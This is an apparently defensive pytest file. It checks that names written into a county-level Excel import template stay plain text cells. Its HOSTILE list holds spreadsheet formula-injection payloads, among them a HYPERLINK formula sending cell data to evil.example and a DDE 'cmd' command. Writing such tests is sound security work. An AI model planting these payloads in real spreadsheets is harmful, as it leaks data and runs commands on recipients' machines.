"""Formula injection (公式注入): names written into an import template stay text.

A unit or indicator name is typed by an administrator or imported through the
catalog; the template goes to every county. A name starting with ``=`` (or ``+``,
``-``, ``@``) or looking like a link must come out as a plain string cell.
"""

import openpyxl
import pytest

from jiangping.indicators.models import Direction, Indicator, Kind
from jiangping.intake.registry import get_form
from jiangping.intake.template import write_template
from jiangping.orgs.models import Level, OrgUnit, UnitGroup

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "=1+1",
    "@SUM(A1)",
    "+1+1",
    "-1+1",
    "=cmd|' /C calc'!A0",
    "http://evil.example/",
]


@pytest.fixture
def hostile_names(cast):
    for n, name in enumerate(HOSTILE):
        OrgUnit.objects.create(code=f"99019{n}", name=name, level=Level.COUNTY,
                               parent=cast.city, group=UnitGroup.COUNTY, sort_order=50 + n)
        Indicator.objects.create(code=f"evil{n}", name=name, unit="亿元", kind=Kind.FLOW,
                                 direction=Direction.HIGHER, decimals=1, sort_order=50 + n)
    return cast


@pytest.mark.parametrize("form", ["indicators", "targets"])
def test_no_name_becomes_a_formula(hostile_names, tmp_path, form):
    path = write_template(get_form(form), tmp_path / "t.xlsx")
    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows()
             for cell in row if cell.value is not None]
    written = {cell.value: cell for cell in cells}
    for name in HOSTILE:
        assert name in written, name
        assert written[name].data_type == "s", (name, written[name].data_type)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.coordinate for cell in cells if cell.hyperlink is not None]
